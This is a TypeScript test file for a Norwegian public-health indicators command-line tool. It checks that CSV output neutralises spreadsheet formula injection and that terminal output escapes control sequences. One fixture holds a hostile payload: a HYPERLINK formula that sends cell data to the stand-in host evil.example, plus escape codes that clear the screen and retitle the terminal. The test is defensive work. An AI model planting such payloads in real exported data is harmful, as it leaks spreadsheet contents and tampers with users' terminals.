import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, renderBarometer, renderBarometerCsv } from '../../src/cli/barometer.js';
import { makeStyle } from '../../src/cli/style.js';

const plainStyle = makeStyle(false, { NO_COLOR: '1' });
import { loadCatalogue, type Indicator } from '../../src/indicators/catalogue.js';
import { computeIndicators } from '../../src/indicators/engine.js';
import { loadTexts } from '../../src/report/language.js';
import type { Observation } from '../../src/model/observation.js';

const hostile = '=HYPERLINK("http://evil.example/?"&A1,"klikk")\u001b[2J\u001b]0;pwned\u0007';
const ind: Indicator = {
  ...loadCatalogue()[0]!,
  id: 'fiendtlig',
  title: { nb: hostile, nn: hostile },
  unit: { nb: '@SUM(A1)', nn: '@SUM(A1)' },
  select: { source: 'fhi', table: 'test', measure: 'RATE' },
  measureType: 'proportion',
  multiplier: 100,
  gradient: undefined,
};
const obs: Observation = {
  source: 'fhi', table: 'test', measure: 'RATE', measureType: 'rate', unit: null, multiplier: null, standardisation: 'none',
  geo: { code: '5037', level: 'kommune', name: 'Levanger' }, harmonisedFrom: null, period: { from: 2022, to: 2022, kind: 'year', label: '2022' },
  sex: 'total', age: null, dimensions: {}, value: 10, missing: null, provisional: false, numerator: 100, denominator: 1000, origin: { file: 'x.csv', line: 2 },
};

describe('indicators --csv: formula injection', () => {
  it('neutralises text starting with = + - @ tab or CR (OWASP), keeps numbers numeric', () => {
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(csvCell('+47 123')).toBe(`"'+47 123"`);
    expect(csvCell('-cmd')).toBe(`"'-cmd"`);
    expect(csvCell('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvCell('\tx')).toBe(`"'\tx"`);
    expect(csvCell('\rx')).toBe(`"'\rx"`);
    expect(csvCell(-0.4)).toBe('-0.4');
    expect(csvCell('Levanger')).toBe('Levanger');
    expect(csvCell('a\u001b[31mb\u0000c\u009bd\u007f')).toBe('a\uFFFD[31mb\uFFFDc\uFFFDd\uFFFD');
    expect(csvCell('to\nlinjer')).toBe('"to\nlinjer"');
    const [r] = computeIndicators([obs], [ind], { kommune: '5037' });
    const rows = parse(renderBarometerCsv([r!]), { columns: true }) as Record<string, string>[];
    // The formula is neutralised; the escape sequences are shown as U+FFFD (the CSV may go to a terminal).
    expect(rows[0]!.title).toBe(`'${hostile.replace(/[\u0007\u001b]/g, '\uFFFD')}`);
    expect(rows[0]!.unit).toBe(`'@SUM(A1)`);
    expect(rows[0]!.value).toBe('10');
  });
});

describe('indicators: terminal output', () => {
  it('shows control characters and escape sequences from data escaped', () => {
    const [r] = computeIndicators([obs], [ind], { kommune: '5037' });
    const text = renderBarometer([r!], loadTexts('nb'), 'nb', plainStyle, false, 'Trøndelag');
    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(text).toContain('\\x1b[2J');
  });
});

describe('folkehelse indicators (the command)', () => {
  it('prints a hostile catalogue title escaped on the terminal and neutralised in --csv', async () => {
    const { main } = await import('../../src/main.js');
    const { writeFileSync, mkdirSync } = await import('node:fs');
    const { join } = await import('node:path');
    const { tempDir } = await import('../helpers.js');
    const dir = tempDir();
    mkdirSync(join(dir, 'data'));
    writeFileSync(join(dir, 'data', 'test.csv'), 'GEO;AAR;KJONN;TELLER;NEVNER;RATE;SPVFLAGG\n5037;2022_2022;0;100;1000;10;0\n');
    const { definedIn: _d, ...rest } = ind as Indicator & { definedIn?: string };
    writeFileSync(join(dir, 'katalog.json'), JSON.stringify({ indicators: [rest] }));
    const run = async (...extra: string[]) => {
      let stdout = '';
      const code = await main(['indicators', '--data', join(dir, 'data'), '--kommune', '5037', '--catalogue', join(dir, 'katalog.json'), '--theme', ind.theme, ...extra], { stdout: { write: (s: string) => (stdout += s) }, stderr: { write: () => {} }, env: { NO_COLOR: '1', FOLKEHELSE_LANG: 'en' } });
      return { code, stdout };
    };
    const text = await run();
    expect(text.code).toBe(0);
    expect(text.stdout).not.toContain('\u001b');
    expect(text.stdout).toContain('\\x1b[2J');
    const csv = await run('--csv');
    const rows = parse(csv.stdout, { columns: true }) as Record<string, string>[];
    expect(rows.find((r) => r.id === 'fiendtlig')?.title?.startsWith("'=")).toBe(true);
  });
});
